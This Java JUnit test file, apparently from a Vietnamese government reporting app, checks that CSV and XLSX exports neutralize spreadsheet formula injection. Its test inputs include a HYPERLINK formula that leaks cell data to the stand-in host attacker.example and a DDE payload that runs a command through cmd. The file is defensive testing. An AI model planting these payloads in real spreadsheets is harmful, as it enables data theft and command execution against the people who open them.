package vn.sohoa.app.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Names an agency or a procedure can be given that a spreadsheet would run as formulas (CSV injection). */
class ReportFormulaInjectionTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Bấm vào đây\")";

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", HYPERLINK,
            "=cmd|' /C calc'!A0"})
    void aCellThatAFormulaCouldBeginGetsALeadingQuote(String name) {
        assertThat(ReportCsv.neutralized(name)).isEqualTo("'" + name);
        assertThat(ReportCsv.quote(name)).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                .doesNotStartWith("@").doesNotStartWith("\"=");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Cấp huyện", "1.004227", "91,65%", "", "a=b", "x-1"})
    void otherCellsAreLeftAsTheyAre(String cell) {
        assertThat(ReportCsv.neutralized(cell)).isEqualTo(cell);
    }

    @Test
    void aProcedureNamedLikeAFormulaIsTextInTheCsvAndInTheWorkbook() throws IOException {
        DigitizationReport report = new DigitizationReport(LocalDate.parse("2026-03-01"), LocalDate.parse("2026-03-31"),
                "H450", "UBND huyện", new DigitizationReport.Row(null, "Tổng cộng", 1, 1, 0, 0),
                List.of(new DigitizationReport.Row("1.004227", HYPERLINK, 1, 1, 0, 0)), List.of());

        String csv = new String(ReportCsv.write(report), StandardCharsets.UTF_8);
        assertThat(csv).contains("Theo thủ tục,1.004227,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Bấm vào"
                + " đây\"\")\",1,1");
        assertThat(csv.lines()).noneMatch(line -> line.contains(",=") || line.contains(",\"="));

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(ReportXlsx.write(report)))) {
            Sheet sheet = workbook.getSheetAt(0);
            boolean found = false;
            for (var row : sheet) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).as("cell %s", cell.getAddress()).isNotEqualTo(CellType.FORMULA);
                    if (cell.getCellType() == CellType.STRING && cell.getStringCellValue().equals(HYPERLINK)) {
                        found = true;
                    }
                }
            }
            assertThat(found).as("the name kept as a string cell").isTrue();
        }
    }
}
